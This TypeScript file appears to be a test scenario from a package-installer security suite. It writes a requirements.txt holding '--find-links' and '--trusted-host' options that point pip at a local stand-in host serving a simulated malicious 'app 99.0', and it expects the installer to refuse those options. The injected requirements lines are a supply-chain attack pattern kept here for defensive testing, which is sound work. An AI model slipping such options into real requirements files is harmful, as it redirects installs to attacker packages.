import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { simulated } from '../stage.ts'
import type { Scenario } from '../scenario.ts'

export const scenario: Scenario = {
  id: 'CLI-1-links',
  title: 'a line of a requirements file that names another place for files',
  capability: 'CLI',
  means: 'writes into requirements.txt',
  wanted: ['app 1.0'],
  async play(stage) {
    await stage.publish({ name: 'app', version: '1.0' })
    const host = await stage.elsewhere()
    const evil = stage.evil({ name: 'app', version: '99.0' })
    host.addProject({ name: evil.name, files: [simulated(evil)] })
    host.addAnswer('/links/', {
      headers: { 'content-type': 'text/html' },
      body: Buffer.from(`<a href="${host.fileUrl(evil.name, evil.filename)}">${evil.filename}</a>`),
    })
    await writeFile(
      join(stage.user.work, 'requirements.txt'),
      `--find-links ${host.url}/links/\n--trusted-host 127.0.0.1\n${evil.name}\n`,
    )
    return await stage.pip(['install', '-r', 'requirements.txt'])
  },
  guard: { holds: 'option-refused', defence: 'options' },
}
